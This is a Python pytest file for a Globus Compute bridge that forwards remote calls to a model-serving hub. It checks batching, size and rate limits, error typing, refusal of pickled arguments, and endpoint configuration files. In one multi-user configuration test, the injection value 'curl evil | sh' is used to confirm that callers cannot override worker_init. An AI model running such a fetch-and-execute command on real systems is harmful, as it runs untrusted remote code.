"""The Globus Compute bridge, end to end: RemoteClient -> the SDK's Executor -> (the cloud's
stand-in) -> a real endpoint engine in-process -> the registered forwarding function -> a
real hub with warm workers, and back. Also the endpoint configurations, loaded by the
endpoint's own config loader."""

from __future__ import annotations

import json
import os
import pwd
import sys
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import yaml

pytest.importorskip("globus_compute_endpoint", reason="pip install 'dlhub-hpc[globus]'")

from click.testing import CliRunner
from globus_compute_endpoint.endpoint.config.config import (
    CoreEndpointConfig,
    UserEndpointConfig,
)
from globus_compute_endpoint.endpoint.config.utils import (
    load_config_yaml,
    render_config_user_template,
)
from globus_compute_endpoint.endpoint.identity_mapper import MappedPosixIdentity
from globus_compute_endpoint.engines import ThreadPoolEngine
from globus_compute_sdk.serialize import JSONData, PureSourceTextInspect

from dlhub_hpc import (
    Client,
    ComputeLimits,
    DlhubHpcError,
    EndpointError,
    ExecutionError,
    Hub,
    HubConfig,
    InvalidInput,
    LimitExceeded,
    MethodNotFound,
    RateLimited,
    RemoteClient,
    ServableNotFound,
)
from dlhub_hpc.bridge import forward as forward_module
from dlhub_hpc.bridge.function import (
    ALLOWED_SERIALIZERS,
    FUNCTION_NAME,
    function_source,
    register_function,
)
from dlhub_hpc.bridge.templates import EndpointSettings, render
from dlhub_hpc.cli import cli
from dlhub_hpc.examples import example_dir

from .conftest import FAST, SERVABLES
from .globus_cloud import LocalCloud, LocalExecutor

pytestmark = pytest.mark.globus

ME = pwd.getpwuid(os.geteuid()).pw_name


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hub]:
    """One hub for the module, serving demo/add, demo/noop and test/flaky warm."""
    home = tmp_path_factory.mktemp("site")
    hub = Hub(HubConfig(home=home, client_address="tcp://127.0.0.1:0",
                        worker_address="tcp://127.0.0.1:0", **FAST)).start()
    try:
        with Client(hub.client_address, timeout=30) as client:
            for directory in (example_dir("add"), example_dir("noop"), SERVABLES / "flaky"):
                name = str(client.publish(directory)["name"])
                client.start_workers(name, 1)
                client.wait_for_workers(name, 1, timeout=60)
        yield hub
    finally:
        forward_module.close_clients()
        hub.stop()


@pytest.fixture
def cloud(site: Hub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[LocalCloud]:
    """An endpoint whose ThreadPoolEngine runs the forwarder in this process."""
    monkeypatch.setenv("DLHUB_HPC_HUB", site.client_address)
    monkeypatch.chdir(tmp_path)  # the engine changes directory into its run_dir
    engine = ThreadPoolEngine(max_workers=4, allowed_serializers=list(ALLOWED_SERIALIZERS))
    endpoint_id = uuid.uuid4()
    engine.start(endpoint_id=endpoint_id, run_dir=str(tmp_path / "endpoint"))
    yield LocalCloud(engine, endpoint_id)
    engine.shutdown(block=True)


@pytest.fixture
def executors() -> Iterator[list[LocalExecutor]]:
    made: list[LocalExecutor] = []
    yield made
    for executor in made:
        executor.shutdown(wait=False, cancel_futures=True)


@pytest.fixture
def connect(cloud: LocalCloud, executors: list[LocalExecutor]) -> Any:
    """RemoteClients on the cloud's endpoint, with the function its admin registered."""
    function_id = register_function(cloud)

    def make(**options: Any) -> RemoteClient:
        # the SDK's own API pacing at its fastest: one send per 1/8 s after 8 in a second
        executor = LocalExecutor(cloud, api_burst_limit=8, api_burst_window_s=1)
        executors.append(executor)
        options.setdefault("function_id", function_id)
        return RemoteClient(cloud.endpoint_id, executor=executor, timeout=20, wait=60,
                            **options)

    return make


def test_run_submit_and_run_batch_reach_the_hub(connect: Any, cloud: LocalCloud) -> None:
    remote = connect()
    assert remote.run("demo/add", [1, 2, 3.5]) == 6.5
    future = remote.submit("demo/add", [1, 2])
    assert future.result(timeout=30) == 3.0
    assert remote.run_batch("demo/add", [[1], [2, 3], []]) == [1.0, 5.0, 0.0]
    data = np.arange(12, dtype=np.float32).reshape(3, 4)
    echoed = remote.run("demo/noop", {"x": data, "label": ("a", 1)})
    np.testing.assert_array_equal(echoed["x"], data)
    assert echoed["x"].dtype == np.float32 and echoed["label"] == ["a", 1]
    # what left the laptop: one task per call, arguments as JSON text, nothing pickled
    payloads = cloud.task_payloads()
    assert len(payloads) == 4
    for payload in payloads:
        args, kwargs = payload_parts(payload)
        assert args.startswith(JSONData.identifier) and kwargs == JSONData.identifier + "{}"
    assert all(body["result_serializers"] == ["globus_compute_sdk.serialize.concretes.JSONData"]
               for body in cloud.submissions)
    assert remote.whoami()["pid"] == os.getpid()  # ThreadPoolEngine: this very process
    remote.close()
    with pytest.raises(DlhubHpcError, match="closed"):
        remote.run("demo/add", [1])


def payload_parts(payload: str) -> tuple[str, str]:
    from globus_compute_sdk.serialize import ComputeSerializer

    args, kwargs = ComputeSerializer.unpack_buffers(payload)
    return args, kwargs


def test_errors_are_the_same_typed_errors_as_on_the_site(connect: Any, site: Hub) -> None:
    remote = connect()
    with Client(site.client_address) as local:
        for call in (lambda c: c.run("demo/nope", [1]),
                     lambda c: c.run("demo/add", [1], method="fit"),
                     lambda c: c.run("demo/add", [1, "two"])):
            with pytest.raises((ServableNotFound, MethodNotFound, InvalidInput)) as here:
                call(local)
            with pytest.raises(type(here.value)) as there:
                call(remote)
            assert there.value.message == here.value.message
            assert there.value.details == here.value.details
    outputs = remote.run_batch("test/flaky", [1, -1, 2], return_exceptions=True)
    assert outputs[0] == 2 and outputs[2] == 4
    assert isinstance(outputs[1], ExecutionError)
    assert "ValueError: negative input" in outputs[1].message
    with pytest.raises(ExecutionError, match="negative input"):
        remote.run_batch("test/flaky", [1, -1])
    with pytest.raises(InvalidInput, match=r"inputs\[1\]: values of type object"):
        remote.run_batch("demo/add", [[1], object()])


def test_whoami_is_the_local_user_of_the_endpoint_process(connect: Any, site: Hub) -> None:
    who = connect().whoami()
    assert who["user"] == ME and who["uid"] == os.geteuid()
    assert who["hub"] == site.client_address


def test_batches_are_split_to_fit_each_submission(connect: Any, cloud: LocalCloud) -> None:
    limits = ComputeLimits(max_submission_bytes=60_000)
    remote = connect(limits=limits)
    rows = [np.full(1000, i, dtype=np.float64) for i in range(12)]  # 8 kB each
    echoed = remote.run_batch("demo/noop", [{"x": r} for r in rows])
    assert [e["x"][0] for e in echoed] == list(range(12))
    payloads = cloud.task_payloads()
    assert len(payloads) >= 3, "12 x 8 kB (11 kB as text) cannot go in one 60 kB task"
    assert all(len(p) <= limits.max_submission_bytes for p in payloads)
    assert len(payloads) <= 4


def test_outputs_over_the_result_limit_come_back_in_later_calls(
    connect: Any, cloud: LocalCloud
) -> None:
    remote = connect(limits=ComputeLimits(max_result_bytes=40_000))
    rows = [np.full(1000, i, dtype=np.float64) for i in range(10)]
    echoed = remote.run_batch("demo/noop", [{"x": r} for r in rows])
    assert [e["x"][-1] for e in echoed] == list(range(10))
    assert len(cloud.task_payloads()) >= 3, "80 kB of outputs need three 40 kB results"


def test_calls_that_can_never_fit_fail_before_or_at_the_endpoint(
    connect: Any, cloud: LocalCloud
) -> None:
    remote = connect(limits=ComputeLimits(max_submission_bytes=50_000,
                                          max_result_bytes=20_000))
    with pytest.raises(LimitExceeded, match="per submission") as raised:
        remote.submit("demo/noop", np.zeros(10_000))
    assert raised.value.details["limit"] == 50_000
    with pytest.raises(LimitExceeded, match=r"inputs\[1\] is .* even alone"):
        remote.run_batch("demo/noop", [1, np.zeros(10_000)])
    assert cloud.task_payloads() == [], "nothing was sent"
    with pytest.raises(LimitExceeded, match="per result"):
        remote.run("demo/noop", np.zeros(4_000))  # 32 kB fits the call, not the result


def test_over_the_rate_a_call_fails_with_advice_or_waits(connect: Any) -> None:
    strict = connect(limits=ComputeLimits(max_requests=3, window=60))
    futures = [strict.submit("demo/add", [i]) for i in range(3)]
    with pytest.raises(RateLimited, match=r"run_batch.*on_rate_limit='wait'"):
        strict.submit("demo/add", [9])
    assert [f.result(timeout=30) for f in futures] == [0.0, 1.0, 2.0]
    paced = connect(limits=ComputeLimits(max_requests=2, window=0.5, max_items_per_call=1),
                    on_rate_limit="wait")
    # The client's own limiter (from its limits), timed by the test: the waits it takes are
    # recorded, not slept.
    slept: list[float] = []
    now = [100.0]

    def sleep(seconds: float) -> None:
        slept.append(seconds)
        now[0] += seconds

    paced._limiter._clock, paced._limiter._sleep = lambda: now[0], sleep
    assert paced.run_batch("demo/add", [[i] for i in range(5)]) == [0.0, 1.0, 2.0, 3.0, 4.0]
    assert sum(slept) == pytest.approx(1.0), "5 calls at 2 per 0.5 s wait out two windows"


def test_without_a_function_id_the_function_is_registered_by_source(
    connect: Any, cloud: LocalCloud
) -> None:
    remote = connect(function_id=None)
    assert remote.run("demo/add", [4, 5]) == 9.0
    registration = cloud.registrations[-1]
    assert registration["function_name"] == FUNCTION_NAME
    assert registration["serialized"] is False
    assert registration["function_code"] == function_source()
    assert str(remote.function_id) in cloud.functions


def test_failures_on_the_globus_side_are_endpoint_errors(
    connect: Any, cloud: LocalCloud
) -> None:
    with pytest.raises(EndpointError, match="not found"):
        connect(function_id=uuid.uuid4()).run("demo/add", [1])

    def pickled(call: str) -> str:
        return call

    pickled_id = cloud.register_function(pickled)  # the SDK's default: dill
    with pytest.raises(EndpointError, match="disabled by current configuration") as raised:
        connect(function_id=pickled_id).run("demo/add", [1])
    assert raised.value.details["function"] == pickled_id


def test_the_endpoint_refuses_pickled_arguments(connect: Any, cloud: LocalCloud,
                                                executors: list[LocalExecutor]) -> None:
    remote = connect()
    remote.run("demo/add", [1])  # registered and configured
    plain = LocalExecutor(cloud, endpoint_id=cloud.endpoint_id)  # the SDK's default: dill
    executors.append(plain)
    future = plain.submit_to_registered_function(str(remote.function_id), args=("x",))
    with pytest.raises(Exception, match="DillDataBase64 disabled by current configuration"):
        future.result(timeout=30)


# -- the endpoint's own engine, built from our single-user template --

@pytest.fixture(scope="module")
def process_cloud(site: Hub, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalCloud]:
    """A GlobusComputeEngine made by the endpoint's config loader from our template."""
    run_dir = tmp_path_factory.mktemp("gce")
    function_id = uuid.uuid4()
    settings = EndpointSettings(name="dlhub", hub=site.client_address,
                                function_ids=[function_id], workers=2,
                                python_bin=Path(sys.executable).parent)
    config = load_config_yaml(render(settings, run_dir)["config.yaml"])
    assert isinstance(config, UserEndpointConfig) and config.engine is not None
    engine = config.engine
    engine._job_status_kwargs["strategy_period"] = 0.2  # first block sooner
    with pytest.MonkeyPatch.context() as mp:
        # the engine starts its interchange through PATH, as an endpoint's would
        mp.setenv("PATH", f"{Path(sys.executable).parent}:{os.environ['PATH']}")
        mp.chdir(run_dir)
        engine.start(endpoint_id=uuid.uuid4(), run_dir=str(run_dir))
        cloud = LocalCloud(engine, uuid.uuid4())
        cloud.endpoint_id = engine.endpoint_id
        yield cloud
        engine.shutdown()


@pytest.mark.slow
def test_the_endpoint_engine_from_the_template_forwards_to_the_hub(
    process_cloud: LocalCloud, executors: list[LocalExecutor], site: Hub
) -> None:
    executor = LocalExecutor(process_cloud)
    executors.append(executor)
    remote = RemoteClient(process_cloud.endpoint_id, register_function(process_cloud),
                          executor=executor, timeout=20, wait=90)
    who = remote.whoami()
    assert who["pid"] != os.getpid(), "the forwarder runs in the engine's worker process"
    assert who["user"] == ME and who["hub"] == site.client_address  # from worker_init
    assert remote.run("demo/add", [1, 2]) == 3.0
    futures = [remote.submit("demo/add", [i, 1]) for i in range(10)]
    assert [f.result(timeout=60) for f in futures] == [i + 1.0 for i in range(10)]
    with pytest.raises(MethodNotFound, match="has no method 'fit'"):
        remote.run("demo/add", [1], method="fit")


# -- endpoint configuration files, checked by the endpoint's own loader --

def _configure(tmp_path: Path, *args: str) -> Any:
    return CliRunner().invoke(
        cli, ["--hub", "tcp://10.1.2.3:47650", "endpoint", "configure", "dlhub",
              "--endpoint-dir", str(tmp_path), "--python-bin", "/opt/dlhub/bin", *args],
        catch_exceptions=False,
    )


def test_configure_writes_a_single_user_endpoint(tmp_path: Path) -> None:
    function_id = str(uuid.uuid4())
    result = _configure(tmp_path, "--function-id", function_id, "--workers", "3")
    assert result.exit_code == 0, result.output
    text = (tmp_path / "dlhub" / "config.yaml").read_text()
    config = load_config_yaml(text)
    assert isinstance(config, UserEndpointConfig)
    assert config.allowed_functions == (function_id,)
    engine = config.engine
    assert type(engine).__name__ == "GlobusComputeEngine"
    assert engine.serde.allowed_deserializer_types == {PureSourceTextInspect, JSONData}
    assert engine.executor.max_workers_per_node == 3
    init = engine.executor.provider.worker_init
    assert "export DLHUB_HPC_HUB=tcp://10.1.2.3:47650" in init
    assert 'export PATH=/opt/dlhub/bin:"$PATH"' in init
    again = CliRunner().invoke(cli, ["endpoint", "configure", "dlhub", "--endpoint-dir",
                                     str(tmp_path), "--function-id", function_id])
    assert again.exit_code != 0 and "--force" in str(again.exception)


def test_configure_writes_a_multi_user_endpoint(tmp_path: Path) -> None:
    function_id = str(uuid.uuid4())
    result = _configure(tmp_path, "--multi-user", "--function-id", function_id,
                        "--identity-domain", "anl.gov")
    assert result.exit_code == 0, result.output
    directory = tmp_path / "dlhub"
    parent = load_config_yaml((directory / "config.yaml").read_text())
    assert isinstance(parent, CoreEndpointConfig)
    assert parent.allowed_functions == (function_id,)
    assert parent.identity_mapping_config_path == directory / "identity_mapping.json"
    mapping = json.loads((directory / "identity_mapping.json").read_text())
    assert mapping[0]["mappings"][0]["match"] == r"(.*)@anl\.gov"
    environment = yaml.safe_load((directory / "user_environment.yaml").read_text())
    assert environment["DLHUB_HPC_HUB"] == "tcp://10.1.2.3:47650"
    # render the user endpoint's config as the parent endpoint does for a mapped user
    template_path = directory / "user_config_template.yaml.j2"
    schema = json.loads((directory / "user_config_schema.json").read_text())
    mapped = MappedPosixIdentity(pwd.getpwuid(os.geteuid()), [], str(uuid.uuid4()))
    rendered = render_config_user_template(parent, template_path.read_text(), template_path,
                                           mapped, schema, user_opts={})
    user = load_config_yaml(rendered)
    assert isinstance(user, UserEndpointConfig)
    assert user.allowed_functions == (function_id,)
    assert user.engine.serde.allowed_deserializer_types == {PureSourceTextInspect, JSONData}
    assert (user.idle_heartbeats_soft, user.idle_heartbeats_hard) == (10, 5760)  # as upstream's
    with pytest.raises(Exception, match="worker_init"):  # callers may not change anything
        render_config_user_template(parent, template_path.read_text(), template_path, mapped,
                                    schema, user_opts={"worker_init": "curl evil | sh"})


def test_register_dry_run_prints_the_source_registration() -> None:
    result = CliRunner().invoke(cli, ["endpoint", "register", "--dry-run"])
    assert result.exit_code == 0, result.output
    body = json.loads(result.output)
    assert body["function_name"] == FUNCTION_NAME and body["serialized"] is False
    assert body["function_code"] == function_source()
    namespace: dict[str, Any] = {}
    exec(body["function_code"], namespace)  # what PureSourceTextInspect does on the endpoint
    assert callable(namespace[FUNCTION_NAME])


def test_no_thread_per_remote_call(connect: Any) -> None:
    remote = connect()
    warm = [remote.submit("demo/add", [i]) for i in range(8)]  # the engine's 4 threads start
    assert [f.result(timeout=30) for f in warm] == [float(i) for i in range(8)]
    before = threading.active_count()
    futures = [remote.submit("demo/add", [i]) for i in range(12)]  # 20 calls: the rate limit
    assert [f.result(timeout=30) for f in futures] == [float(i) for i in range(12)]
    assert threading.active_count() <= before
